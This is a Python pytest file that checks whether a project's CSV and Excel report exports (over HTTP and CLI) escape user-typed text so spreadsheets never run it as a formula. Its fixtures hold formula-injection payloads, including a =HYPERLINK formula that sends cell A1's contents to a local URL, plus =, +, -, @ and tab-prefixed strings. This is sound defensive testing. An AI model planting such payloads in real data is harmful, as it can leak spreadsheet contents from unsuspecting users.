"""Exports are data, not code (issue #16 F2): text typed by anyone — a commitment's content,
a need's title, an organisation's name — reaches an evaluator's spreadsheet as text, never as
a formula Excel or WPS would run.  Over HTTP (``?format=csv|xlsx``) and from the CLI
(``cobuild report ... --format csv|xlsx``)."""
from __future__ import annotations

import csv
import io
import uuid
from datetime import date

import openpyxl
import pytest
from click.testing import CliRunner

from projections import export
from tests.api_support import JsonClient, rebind

V = "/api/v1"
HYPERLINK = '=HYPERLINK("http://127.0.0.1/x?"&A1,"点击查看附件")'
TITLES = ("+1 修缮村道", "-2+3 购置农机", "@SUM(1,2) 建设书屋")
RENAMED = "=2*3 石练村"
PAYLOADS = (HYPERLINK, *TITLES, RENAMED)


@pytest.fixture
def world(templates, app, tmp_path):
    opened = []

    def open_world(setup: str):
        engine, settings, cast, ids = templates.open(setup, tmp_path / "var")
        opened.append(engine)
        rebind(app, engine, settings)
        return engine, settings, cast, ids, JsonClient(app.test_client())

    yield open_world
    for engine in opened:
        engine.close()


def plant(http, cast, pairing: str) -> None:
    """The attacker's texts, entered as any party could."""
    http.post(f"{V}/commitments", cast.tokens["agency"], {
        "pairing_id": pairing, "made_by": "giver", "category": "funds", "content": HYPERLINK,
        "due_on": "2025-12-31", "amount_yuan": "50000"}).expect(201)
    for title in TITLES:
        http.post(f"{V}/tasks", cast.tokens["village"], {
            "receiver_id": str(cast.orgs["V1"]), "category": "infrastructure",
            "title": title}).expect(201)
    cast.engine.rename_organisation(cast.actors["admin"], cast.orgs["V1"], RENAMED)


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_csv_is_data(text: str, expected: tuple[str, ...]) -> None:
    cells = csv_cells(text)
    for payload in expected:
        assert "'" + payload in cells, payload
    assert not [c for c in cells if c.startswith(export.FORMULA_START)]


def assert_xlsx_is_data(content: bytes, expected: tuple[str, ...]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for payload in expected:
        assert payload in texts, payload
        assert texts[payload].data_type == "s" and texts[payload].quotePrefix, payload


def test_http_exports_write_typed_text_as_text(world):
    engine, settings, cast, ids, http = world("in_force")
    plant(http, cast, ids["pairing"])
    token = cast.tokens["supervisor"]
    for report, expected in (("commitments", (HYPERLINK, RENAMED)), ("tasks", (*TITLES, RENAMED)),
                             ("pairings", (RENAMED,))):
        answer = http.get(f"{V}/reports/{report}?format=csv", token)
        assert answer.status == 200
        assert_csv_is_data(answer.content.decode("utf-8"), expected)
        answer = http.get(f"{V}/reports/{report}?format=xlsx", token)
        assert answer.status == 200
        assert_xlsx_is_data(answer.content, expected)
    # JSON is data already: the texts come back exactly as typed.
    items = http.get(f"{V}/reports/commitments", token).expect(200)["items"]
    assert [(i["content"], i["beneficiary_name"]) for i in items] == [(HYPERLINK, RENAMED)]
    assert items[0]["amount_yuan"] == "50000.00"


def test_cli_exports_write_typed_text_as_text(world, monkeypatch, tmp_path):
    from api.cli.reports import report

    engine, settings, cast, ids, http = world("in_force")
    plant(http, cast, ids["pairing"])
    for name, value in settings.environ().items():
        monkeypatch.setenv(name, value)
    cli = CliRunner()
    for name, expected in (("commitments", (HYPERLINK, RENAMED)), ("tasks", (*TITLES, RENAMED))):
        out = cli.invoke(report, [name, "--format", "csv"])
        assert out.exit_code == 0, out.output
        assert_csv_is_data(out.output, expected)
        target = tmp_path / f"{name}.xlsx"
        out = cli.invoke(report, [name, "--format", "xlsx", "--output", str(target)])
        assert out.exit_code == 0, out.output
        assert_xlsx_is_data(target.read_bytes(), expected)


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@A1", "\tcmd", "\r=1", HYPERLINK])
def test_every_formula_start_is_written_as_text(text):
    """Tab and CR cannot be typed into a title (the API refuses control characters), but a
    file must be data whatever a row holds."""
    item = {"name": text, "code": "X1", "kind": "agency", "kind_label": "机关",
            "region_code": "331122000000", "organisation_id": str(uuid.uuid4())}
    result = {"items": [], "totals": {}, "weak_without_pairing": [],
              "agencies_without_village": [item], "as_of": date(2025, 3, 1).isoformat()}
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx("coverage", result)))
    cell = book["未结对单位"]["A3"]
    # (XML reads a carriage return back as a line feed.)
    assert cell.value[1:] == text[1:] and cell.data_type == "s" and cell.quotePrefix
    assert export._csv_cell(text) == "'" + text


def test_plain_text_and_numbers_are_left_alone():
    assert export._csv_cell("石练村") == "石练村" and export._csv_cell(-3) == -3
    assert export._csv_cell("50000.00") == "50000.00"
